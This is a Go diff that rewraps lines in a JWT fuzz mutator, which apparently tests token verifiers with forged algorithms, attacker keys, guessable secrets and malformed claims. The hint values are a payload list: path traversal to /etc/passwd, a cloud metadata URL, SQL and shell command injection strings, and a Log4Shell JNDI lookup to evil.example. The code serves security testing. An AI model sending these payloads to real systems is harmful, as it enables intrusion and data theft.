@@ -46,8 +46,10 @@ func (m *mutator) forged() string {
 }
 
 func (m *mutator) algorithm() any {
-	return pick[any](m, m.header["alg"], m.header["alg"], "HS256", "none", "None", "NONE", "nOnE", "none\x00", " none", "", "hs256", "HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA",
-		"HS256,none", []string{"none"}, []string{"HS256"}, object{"alg": "HS256"}, 0, true, nil, absent{}, withCase(m.Uint32(), "none"), withCase(m.Uint32(), "hs256"))
+	return pick[any](m, m.header["alg"], m.header["alg"], "HS256", "none", "None", "NONE", "nOnE", "none\x00", " none", "", "hs256",
+		"HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA",
+		"HS256,none", []string{"none"}, []string{"HS256"}, object{"alg": "HS256"}, 0, true, nil, absent{}, withCase(m.Uint32(), "none"),
+		withCase(m.Uint32(), "hs256"))
 }
 
 // withCase makes a letter a capital if its bit is 1.
@@ -64,14 +66,18 @@ func withCase(bits uint32, s string) string {
 // hint returns a header value that tells a careless verifier where to find the
 // key.
 func (m *mutator) hint() any {
-	return pick[any](m, "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", `C:\Windows\win.ini`, "https://evil.example/keys.json", "file:///etc/passwd",
-		"http://169.254.169.254/latest/meta-data", "' UNION SELECT 'evil' --", `"; DROP TABLE users; --`, "$(id)", "|id", "${jndi:ldap://evil.example/x}", "", "\x00", "\u202e", "none",
-		strings.Repeat("k", 10<<10), strings.Repeat("../", 1000), 0, -1, true, nil, object{"kty": "oct", "k": encode([]byte("evil"))}, []string{"AAAA"}, object{}, []any{})
+	return pick[any](m, "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", `C:\Windows\win.ini`,
+		"https://evil.example/keys.json", "file:///etc/passwd",
+		"http://169.254.169.254/latest/meta-data", "' UNION SELECT 'evil' --", `"; DROP TABLE users; --`, "$(id)", "|id",
+		"${jndi:ldap://evil.example/x}", "", "\x00", "\u202e", "none",
+		strings.Repeat("k", 10<<10), strings.Repeat("../", 1000), 0, -1, true, nil, object{"kty": "oct", "k": encode([]byte("evil"))},
+		[]string{"AAAA"}, object{}, []any{})
 }
 
 // mac returns an HMAC with a key that an attacker may guess or choose.
 func (m *mutator) mac(content string, of func() hash.Hash) []byte {
-	key := pick(m, append(m.public, "", "\x00", "evil", "secret", "your_jwt_secret_key_here", issuer, audience, secret[1:], secret+"\n", strings.ToUpper(secret), encode([]byte(secret)), publicKey())...)
+	key := pick(m, append(m.public, "", "\x00", "evil", "secret", "your_jwt_secret_key_here", issuer, audience, secret[1:], secret+"\n",
+		strings.ToUpper(secret), encode([]byte(secret)), publicKey())...)
 	h := hmac.New(of, []byte(key))
 	h.Write([]byte(content))
 	return h.Sum(nil)
@@ -117,7 +123,10 @@ func (m *mutator) asymmetric(claims object) string {
 		tok.Header["kid"] = kid
 	}
 	if m.IntN(2) == 0 {
-		tok.Header["jwk"] = object{"kty": "EC", "crv": "P-256", "x": encode(attackerKeys().ecdsa.X.Bytes()), "y": encode(attackerKeys().ecdsa.Y.Bytes())}
+		tok.Header["jwk"] = object{
+			"kty": "EC", "crv": "P-256", "x": encode(attackerKeys().ecdsa.X.Bytes()),
+			"y": encode(attackerKeys().ecdsa.Y.Bytes()),
+		}
 	}
 	raw, err := tok.SignedString(key)
 	if err != nil {
@@ -156,7 +165,9 @@ func (m *mutator) signedByUs() string {
 		return m.sign(pick(m, header, encode([]byte(body))), encode([]byte(body)))
 	case 4: // not for a shared secret, which ignores kid
 		if m.header["kid"] != nil {
-			return m.sign(segment(m.t, m.header.with("kid", pick[any](m, append(m.kids, "", " ", m.header["kid"].(string)+" ", m.header["kid"].(string)[1:], m.hint(), absent{}, nil)...))), m.parts[1])
+			kid := m.header["kid"].(string)
+			other := pick(m, append(m.kids, "", " ", kid+" ", kid[1:], m.hint(), absent{}, nil)...)
+			return m.sign(segment(m.t, m.header.with("kid", other)), m.parts[1])
 		}
 	}
 	name := pick(m, "iss", "aud", "sub", "jti", "ver", "sid", "role", "exp", "nbf", "iat")
@@ -166,7 +177,8 @@ func (m *mutator) signedByUs() string {
 // otherAlgorithm returns an alg that is not the key's own.
 func (m *mutator) otherAlgorithm() any {
 	for {
-		alg := pick[any](m, "none", "nOnE", "HS256", "RS256", "ES256", "EdDSA", "PS256", "HS384", "HS512", "ES384", "RS512", "Ed25519", "", absent{}, nil, []string{"HS256"})
+		alg := pick[any](m, "none", "nOnE", "HS256", "RS256", "ES256", "EdDSA", "PS256", "HS384", "HS512", "ES384", "RS512", "Ed25519",
+			"", absent{}, nil, []string{"HS256"})
 		if text, ok := alg.(string); !ok || text != m.header["alg"] {
 			return alg
 		}
@@ -174,7 +186,8 @@ func (m *mutator) otherAlgorithm() any {
 }
 
 func (m *mutator) audience() any {
-	return pick[any](m, []string{}, []string{""}, []any{nil}, []any{[]string{audience}}, []string{audience, audience}, []string{"billing", audience},
+	return pick[any](m, []string{}, []string{""}, []any{nil}, []any{[]string{audience}}, []string{audience, audience},
+		[]string{"billing", audience},
 		[]any{audience, 1}, object{"0": audience}, "", "Roster", audience+" ", audience+"\x00", 0, nil, absent{})
 }
 
@@ -185,7 +198,8 @@ func (m *mutator) invalidValue(name string) any {
 	several := []any{absent{}, nil, true, false, object{}, []any{}, []any{nil}, object{"a": 1}, [][]int{{1}}, 1e300, -1e300}
 	switch name {
 	case "exp":
-		several = append(several, at-far, at-5, at+int64(token.Lifetime.Seconds())+far, 0, -1, "1767605400", math.MaxInt64, uint64(math.MaxUint64))
+		several = append(several, at-far, at-5, at+int64(token.Lifetime.Seconds())+far, 0, -1, "1767605400", math.MaxInt64,
+			uint64(math.MaxUint64))
 	case "nbf", "iat":
 		several = append(several, at-far, at+far, 0, -1, "1767605400", math.MaxInt64, uint64(math.MaxUint64))
 	case "ver":
@@ -195,7 +209,8 @@ func (m *mutator) invalidValue(name string) any {
 	case "role":
 		several = append(several, "", "user", "USER ", "USER,ADMIN", 0, []string{"ADMIN"})
 	case "iss":
-		several = append(several, "", 0, issuer+"/", issuer+"\x00", strings.ToUpper(issuer), "http://accounts.example.com", []string{issuer}, "https://accounts.example.com.evil.example")
+		several = append(several, "", 0, issuer+"/", issuer+"\x00", strings.ToUpper(issuer), "http://accounts.example.com",
+			[]string{issuer}, "https://accounts.example.com.evil.example")
 	default: // strings
 		several = append(several, "", 0, 7, []string{subject})
 	}
